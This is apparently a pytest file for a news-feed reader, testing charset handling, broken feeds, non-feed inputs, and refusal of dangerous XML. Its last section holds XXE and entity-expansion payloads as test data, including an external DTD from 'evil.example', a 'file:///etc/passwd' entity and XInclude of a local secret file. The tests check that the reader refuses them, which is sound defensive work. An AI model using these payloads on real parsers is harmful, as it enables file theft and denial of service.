"""Charsets, broken feeds, what is none, and XML that is dangerous."""

import gzip

import pytest

from tests.feeds.formats.reading import atom, fault, read, rss
from tests.support import feed_documents as documents
from workers.feeds.model import FEED_MAX_BYTES, Fault

TEXTS = {"ar": "ميناء الإسكندرية", "fa": "کتابخانه‌ای در تهران", "ru": "Губка на Байкале"}


# Charsets


@pytest.mark.parametrize(
    ("lang", "charset"),
    [
        ("ar", "windows-1256"),
        ("fa", "windows-1256"),
        ("ru", "windows-1251"),
        ("ru", "koi8-r"),
        ("ar", "utf-16"),
        ("ar", "utf-8-sig"),
    ],
)
@pytest.mark.parametrize("where", ["header", "declaration"])
def test_a_title_is_read_in_the_charset_that_is_declared(lang, charset, where):
    title = TEXTS[lang].replace("ی", "ي").replace("\u200c", " ") if charset == "windows-1256" else TEXTS[lang]
    title = title.replace("ه ", "ه ")
    text = rss(f"<title>{title} {title} {title}</title><guid>1</guid>")
    content_type = f"application/rss+xml; charset={charset}" if where == "header" else "application/rss+xml"
    if where == "declaration":
        text = text.replace('version="1.0"', f'version="1.0" encoding="{charset}"', 1)
    [item] = read(text.encode(charset), content_type).items
    assert item.title == f"{title} {title} {title}"


@pytest.mark.parametrize("declared", ["utf-8", "iso-8859-1", "windows-1252", "x-nonsense"])
def test_a_charset_that_the_bytes_contradict_is_not_believed(declared):
    title = " ".join([TEXTS["ar"]] * 5)
    text = rss(f"<title>{title}</title><guid>1</guid>")
    for charset in ("utf-8", "windows-1256"):
        [item] = read(text.encode(charset), f"text/xml; charset={declared}").items
        assert item.title == title


# Broken, but read


@pytest.mark.parametrize(
    "text",
    [
        rss("<title>Bread & butter</title><guid>1</guid>"),
        rss("<title>Bread&nbsp;and butter</title><guid>1</guid>"),
        rss("<title>Bread</title><guid>1</guid><link>/a?x=1&y=2</link>"),
        rss("<title>Bread</title><guid>1</guid><description><b>x</description>"),
        rss("<title>Bread</title><guid>1</guid>").replace("</rss>", ""),
        rss("<title>Bread</title><guid>1</guid>", "<title>Cut off")[: -len("</item></channel></rss>")],
    ],
    ids=["ampersand", "entity", "query", "tag", "end", "item"],
)
def test_what_can_be_read_of_a_broken_feed_is_read_and_said(text):
    found = read(text)
    assert [item.title.split()[0] for item in found.items] == ["Bread"]
    assert found.problems


@pytest.mark.parametrize(
    "text",
    [
        "\n\n " + rss("<title>Bread</title><guid>1</guid>"),
        rss("<title>Bread\x0b\x00</title><guid>1</guid>"),
        rss("<title><![CDATA[Bread & <butter>]]></title><guid>1</guid>"),
        "<!-- made by hand -->" + rss("<title>Bread</title><guid>1</guid>").partition("?>")[2],
        '<?xml-stylesheet href="x.xsl"?>' + atom("<title>Bread</title><id>1</id>"),
    ],
)
def test_what_does_no_harm_is_no_problem(text):
    found = read(text)
    assert [item.title.split()[0] for item in found.items] == ["Bread"]
    assert found.problems == ()


def test_a_sitemap_is_read_up_to_where_it_is_broken():
    found = read("<urlset><url><loc>/a</loc></url><url><loc>/b</lo")
    assert [item.url for item in found.items] == ["https://news.example/a"]
    assert "is not well-formed" in found.problems[0]


def test_a_gzip_file_is_unzipped_within_the_limit():
    assert len(read(gzip.compress(rss("<guid>1</guid>").encode()), "application/gzip").items) == 1
    assert fault(gzip.compress(bytes(FEED_MAX_BYTES + 1))).fault is Fault.TOO_LARGE
    assert fault(gzip.compress(b"x" * 1000)[:-12]).fault is Fault.MALFORMED
    assert fault(b"\x1f\x8bnonsense").fault is Fault.MALFORMED


def test_of_a_feed_with_very_many_tags_the_first_items_are_read(monkeypatch):
    monkeypatch.setattr("workers.feeds.formats.xml_text._MAX_TAGS", 1_000)
    tags = "<category>c</category>" * 50 + "<description><![CDATA[" + "<p>" * 500 + "]]></description>"
    found = read(rss(*[f"<guid>{number}</guid>{tags}" for number in range(20)]))
    assert len(found.items) == 9
    assert any("1,000 tags" in problem for problem in found.problems)


# No feeds


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("", "is empty"),
        (" \n", "is empty"),
        (
            "<!doctype html><html><body>x",
            "is a web page and no feed. Look for the site's feeds: khabar feeds add https",
        ),
        ("<HTML lang=ar>", "is a web page"),
        (
            "<?xml version='1.0'?><!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'x'><html/>",
            "is a web page",
        ),
        ("You are blocked <br> <html>", "is a web page"),
        ("<opml version='2.0'><body/></opml>", "khabar feeds import"),
        ("<svg/>", "an image"),
        ("<stories/>", "its root element is stories"),
        ("Not found", "is text"),
        ("{", "begins as JSON and is none"),
        ("[" * 100_000, "begins as JSON and is none"),
        ("[1]", "JSON of another kind"),
        ('{"stories": []}', "JSON of another kind"),
        ('{"version": "https://jsonfeed.org/version/1", "items": {}}', "without `items`"),
        ('{"version": "https://jsonfeed.org/version/1", "items": [1]}', "no item can be read"),
        ("%PDF-1.7", "is a PDF file"),
        ("<urlset><url", "is a sitemap that is broken"),
        ("<rss version='2.0'><channel><item><title>x", "is a feed that is broken"),
    ],
)
def test_what_is_no_feed_is_said(body, said):
    error = fault(body)
    assert error.fault is Fault.MALFORMED
    assert said in str(error)


# Dangerous XML

ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "iso-8859-1"]


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize(
    "text",
    [
        documents.BILLION_LAUGHS,
        documents.QUADRATIC,
        documents.EXTERNAL,
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]><rss version="2.0"/>',
        """<!DOCTYPE r [<!ENTITY % a "&#37;b;"><!ENTITY % b "x">]><rss version="2.0"/>""",
        '<!DOCTYPE r [<!ENTITY a "&#38;b;"><!ENTITY b "x">]><rss version="2.0"/>',
        '<!DOCTYPE r [<!ENTITY a "x" <!ENTITY b "y">]><rss version="2.0"/>',
        "<!DOCTYPE r [" + "".join(f'<!ENTITY e{n} "x">' for n in range(400)) + ']><rss version="2.0"/>',
        '<?xml version="1.0"?><!-- c --><!DOCTYPE urlset [<!ENTITY a SYSTEM "file:///etc/passwd">]><urlset>&a;</urlset>',
    ],
    ids=[
        "laughs",
        "quadratic",
        "external",
        "parameter",
        "nested parameter",
        "nested",
        "malformed",
        "many",
        "sitemap",
    ],
)
def test_a_dtd_that_is_dangerous_is_refused_in_every_encoding(text, encoding):
    error = fault(text.encode(encoding))
    assert error.fault is Fault.UNSAFE_XML
    assert "is not read" in str(error)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">',
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1//EN" "http://www.w3.org/lat1.ent"> %HTMLlat1;]>',
        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"> <!ENTITY copy "&#169;"><!ENTITY amp "&#38;#38;">]>',
        "<!DOCTYPE rss [<!ELEMENT rss (channel)> <!ATTLIST rss version CDATA #REQUIRED>]>",
    ],
)
def test_a_dtd_that_is_harmless_is_no_obstacle(doctype):
    text = rss("<title>&copy; 2026 &amp; x</title><guid>1</guid>").replace("?>", f"?>\n{doctype}\n", 1)
    assert [item.title for item in read(text).items] == ["\u00a9 2026 & x"]


def test_a_dtd_that_is_harmless_is_no_obstacle_in_a_sitemap_either():
    text = '<!DOCTYPE urlset [<!ENTITY host "news.example">]><urlset><url><loc>https://&host;/a</loc></url></urlset>'
    assert [item.url for item in read(text).items] == ["https://news.example/a"]


def test_declared_entities_are_put_in_as_text():
    text = (
        '<!DOCTYPE r [<!ENTITY site "A <b> C">]>'
        + rss("<title>&site; &other;</title><guid>1</guid>").partition("?>")[2]
    )
    assert [item.title for item in read(text).items] == ["A C &other;"]


def test_a_file_of_this_machine_never_comes_into_a_feed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET")
    for text in (
        (
            f'<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>x</title><item><guid>1</guid>'
            f'<title><xi:include href="{secret.as_uri()}" parse="text"/></title></item></channel></rss>'
        ),
        f'<?xml version="1.0"?><?xml-stylesheet href="{secret.as_uri()}"?>'
        + rss(f"<link>{secret.as_uri()}</link>"),
    ):
        assert "SECRET" not in repr(read(text))
